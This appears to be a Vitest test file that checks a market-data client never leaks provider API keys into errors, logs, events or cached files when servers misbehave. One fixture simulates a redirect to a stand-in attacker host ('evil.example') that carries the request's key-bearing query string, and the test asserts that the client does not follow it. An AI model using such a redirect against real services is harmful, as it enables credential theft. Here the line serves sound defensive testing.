/** A key that is given to a provider appears nowhere: in no error, log, event or file, on no path of failure. */
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { inspect } from 'node:util'
import { afterAll, describe, expect, test } from 'vitest'
import { createDataClient } from '../../src/client.ts'
import { EVENT_NAMES } from '../../src/contract/events.ts'
import type { Interval } from '../../src/contract/interval.ts'
import type { Provider } from '../../src/contract/provider.ts'
import type { Logger } from '../../src/contract/runtime.ts'
import {
  alpaca,
  alphavantage,
  coingecko,
  cryptocompare,
  fmp,
  polygon,
  stooq,
  tiingo,
} from '../../src/providers/index.ts'

const KEY = 'SENTINEL-a8f+3/Q=z'
const SECRET = 'SENTINEL-second-77'
/** The key as it may be written somewhere: plain, in a URL, in base64. */
const SPELLINGS = [KEY, SECRET].flatMap((key) => [key, encodeURIComponent(key), btoa(key), key.toLowerCase()])

const KEYED: readonly (readonly [string, () => Provider, string, Interval])[] = [
  ['alphavantage', () => alphavantage({ apiKey: KEY }), 'AAPL', '1d'],
  ['fmp', () => fmp({ apiKey: KEY }), 'AAPL', '1d'],
  ['polygon', () => polygon({ apiKey: KEY }), 'AAPL', '1d'],
  ['alpaca', () => alpaca({ apiKey: KEY, secretKey: SECRET }), 'AAPL', '1d'],
  ['tiingo', () => tiingo({ apiKey: KEY }), 'AAPL', '1d'],
  ['cryptocompare', () => cryptocompare({ apiKey: KEY }), 'BTC-USD', '1d'],
  ['coingecko', () => coingecko({ apiKey: KEY }), 'BTC-USD', '4h'],
  ['stooq', () => stooq({ apiKey: KEY }), 'AAPL', '1d'],
]

type Answer = (url: string, headers: Headers) => Response | Promise<Response>

/** What a server, or what stands before it, may do with the request: each echoes all that it was sent. */
const FAILURES: readonly (readonly [string, Answer])[] = [
  ['401 with the key in the text', (url, headers) => new Response(echo(url, headers), { status: 401 })],
  [
    '403 with the key in JSON',
    (url, headers) => Response.json({ error: echo(url, headers), message: echo(url, headers) }, { status: 403 }),
  ],
  ['404', (url, headers) => Response.json({ detail: echo(url, headers) }, { status: 404 })],
  ['429', (url, headers) => new Response(echo(url, headers), { status: 429, headers: { 'retry-after': '1' } })],
  ['500', (url, headers) => new Response(echo(url, headers), { status: 500 })],
  [
    '200 with an error that names the key',
    (url, headers) =>
      Response.json({
        Information: `We have detected your API key as ${KEY}: 25 requests per day`,
        Note: echo(url, headers),
      }),
  ],
  [
    '200 with HTML',
    (url, headers) => new Response(`<html>${echo(url, headers)}</html>`, { headers: { 'content-type': 'text/html' } }),
  ],
  ['200 with another shape', (url, headers) => Response.json([{ unexpected: echo(url, headers) }])],
  [
    'a redirect to another host',
    (url) =>
      new Response(null, { status: 302, headers: { location: `https://evil.example/?${new URL(url).searchParams}` } }),
  ],
  [
    'a network error that names the request',
    (url, headers) =>
      Promise.reject(Object.assign(new TypeError(`fetch failed: ${url}`), { cause: new Error(echo(url, headers)) })),
  ],
]

function echo(url: string, headers: Headers): string {
  return `${url} ${[...headers].map(([name, value]) => `${name}: ${value}`).join(' ')}`
}

const folders: string[] = []
afterAll(() => Promise.all(folders.map((folder) => rm(folder, { recursive: true, force: true }))))

async function textOf(folder: string): Promise<string> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true })
  const files = entries
    .filter((entry) => entry.isFile())
    .map((entry) => readFile(join(entry.parentPath, entry.name), 'latin1'))
  return (await Promise.all(files)).join('\n') + entries.map((entry) => entry.name).join('\n')
}

function everything(error: unknown): string {
  const seen: string[] = []
  for (let one: unknown = error, depth = 0; one !== undefined && one !== null && depth < 10; depth++) {
    seen.push(
      inspect(one, { depth: 10, showHidden: true }),
      String((one as Error).stack),
      JSON.stringify(one, Object.getOwnPropertyNames(one)) ?? '',
    )
    one = (one as Error).cause
  }
  return seen.join('\n')
}

describe.each(KEYED)('the key of %s', (_name, make, symbol, interval) => {
  test.each(FAILURES)('stays secret after %s', async (_failure, answer) => {
    const root = await mkdtemp(join(tmpdir(), 'secrets-'))
    folders.push(root)
    const told: string[] = []
    const hosts = new Set<string>()
    const log: Logger = {
      debug: (facts, message) => told.push(inspect(facts, { depth: 10 }), message),
      info: (facts, message) => told.push(inspect(facts, { depth: 10 }), message),
      warn: (facts, message) => told.push(inspect(facts, { depth: 10 }), message),
      error: (facts, message) => told.push(inspect(facts, { depth: 10 }), message),
    }
    const clock = { nowMs: Date.UTC(2024, 5, 15) }
    const client = createDataClient({
      root,
      providers: [make()],
      logger: log,
      runtime: {
        now: () => clock.nowMs,
        sleep: (ms) => {
          clock.nowMs += ms
          return Promise.resolve()
        },
        fetch: (input, init) => {
          const request = new Request(input, init)
          hosts.add(new URL(request.url).host)
          return Promise.resolve(answer(request.url, request.headers))
        },
      },
    })
    for (const name of EVENT_NAMES) client.on(name, (event) => told.push(inspect(event, { depth: 10 })))
    const query = { symbol, interval, start: '2024-06-01', end: '2024-06-10' } as const
    const error: unknown = await client.get(query).then(
      (table) => told.push(inspect(table, { depth: 10 })),
      (failure: unknown) => failure,
    )
    told.push(everything(error), inspect(await client.providers(), { depth: 10 }), await textOf(root))
    await client.close()
    const all = told.join('\n')
    for (const spelling of SPELLINGS)
      expect(
        all.includes(spelling),
        `${spelling} in ${all.slice(Math.max(0, all.indexOf(spelling) - 200), all.indexOf(spelling) + 50)}`,
      ).toBe(false)
    expect(hosts.size).toBe(1)
    expect([...hosts].some((host) => host.includes('evil'))).toBe(false)
  })
})

test('what is no provider is refused without what is in it', () => {
  for (const given of [{ name: 'polygon', apiKey: KEY }, KEY]) {
    const refused = (): unknown => createDataClient({ providers: [given as never] })
    expect(refused).toThrow(expect.objectContaining({ code: 'config/option', field: 'providers' }))
    try {
      refused()
    } catch (error) {
      expect(inspect(error, { depth: 9 }) + JSON.stringify(error)).not.toContain('SENTINEL')
    }
  }
})
